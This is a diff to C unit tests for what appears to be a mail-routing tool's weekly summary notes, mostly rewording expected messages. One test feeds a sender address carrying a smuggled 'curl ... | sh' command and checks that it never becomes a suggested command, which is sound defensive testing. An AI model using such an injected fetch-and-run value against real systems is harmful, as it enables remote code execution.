@@ -78,7 +78,8 @@ a_week_is_counted(void **state)
 	assert_string_equal(summary_subject(s, sc->f->a),
 	    "mroute: week 2026-W47, 10 messages, 70 % routed");
 	assert_string_equal(notes_of(sc, s), "* 1 message lies in the fallback Maildir, "
-	    "the last resort that no team reads.\n");
+	    "the last resort that no team reads.\n"
+	    "+ Otherwise a good week: 70 % found their way without you, half within 5 s.\n");
 	assert_non_null(strstr(text_of(sc, s),
 	    "6 more than the week before, when the records began"));
 }
@@ -325,7 +326,7 @@ more_triage_than_usual_is_said(void **state)
 	assert_int_equal(s->usual_total, 20);
 	assert_int_equal(s->usual_triage, 5);
 	assert_string_equal(notes_of(sc, s), "* More than usual was left to a person, as no "
-	    "rule was sure: 40 %, usual is 5 % (the median of the 3 weeks before). What "
+	    "rule was sure: 40 %, where 5 % is usual (the median of the 3 weeks before). What "
 	    "it was stands below.\n");
 }
 
@@ -337,8 +338,9 @@ a_busy_week_says_where(void **state)
 	usual_weeks(sc, 3, 10, 0);
 	this_week(sc, 30, 0, "ann@a.example");
 	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* A busy week: 30 "
-	    "messages, usual are 10 (the median of the 3 weeks before); press alone had "
-	    "20 more than the week before.\n");
+	    "messages, where 10 are usual (the median of the 3 weeks before); press alone had "
+	    "20 more than the week before.\n"
+	    "+ Otherwise a good week: 100 % found their way without you, half within 0.5 s.\n");
 }
 
 static void
@@ -348,7 +350,7 @@ a_quiet_week_asks_whether_mail_arrives(void **state)
 
 	usual_weeks(sc, 3, 21, 0);
 	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* A quiet week: not one "
-	    "message, usual are 21 (the median of the 3 weeks before). If that is no "
+	    "message, where 21 are usual (the median of the 3 weeks before). If that is no "
 	    "holiday, see that mail still arrives.\n");
 }
 
@@ -360,12 +362,14 @@ a_new_sender_of_much_is_named(void **state)
 	usual_weeks(sc, 3, 10, 0);
 	this_week(sc, 10, 0, "x@blast.example");
 	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* blast.example wrote "
-	    "for the first time, and 10 messages at once (100 % of all).\n");
+	    "for the first time, and 10 messages at once (100 % of all).\n"
+	    "+ Otherwise a good week: 100 % found their way without you, half within 0.5 s.\n");
 	assert_string_equal(gather(sc, "2026-W47")->note[0].todo, "mroute log --domain "
 	    "blast.example --since 2026-11-16 --until 2026-11-22");
 	sc->cfg->summary.people = PEOPLE_NONE;
 	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* Somebody wrote for the "
-	    "first time, and 10 messages at once (100 % of all).\n");
+	    "first time, and 10 messages at once (100 % of all).\n"
+	    "+ Otherwise a good week: 100 % found their way without you, half within 0.5 s.\n");
 }
 
 static void
@@ -377,7 +381,7 @@ no_stranger_writes_a_command(void **state)
 	usual_weeks(sc, 3, 10, 0);
 	this_week(sc, 10, 0, "x@a.example;curl${ifs}x.example|sh");
 	s = gather(sc, "2026-W47");
-	assert_int_equal(s->n_note, 1);
+	assert_int_equal(s->n_note, 2);
 	assert_non_null(strstr(s->note[0].text, "|sh wrote for the first time"));
 	assert_string_equal(s->note[0].todo, "");
 }
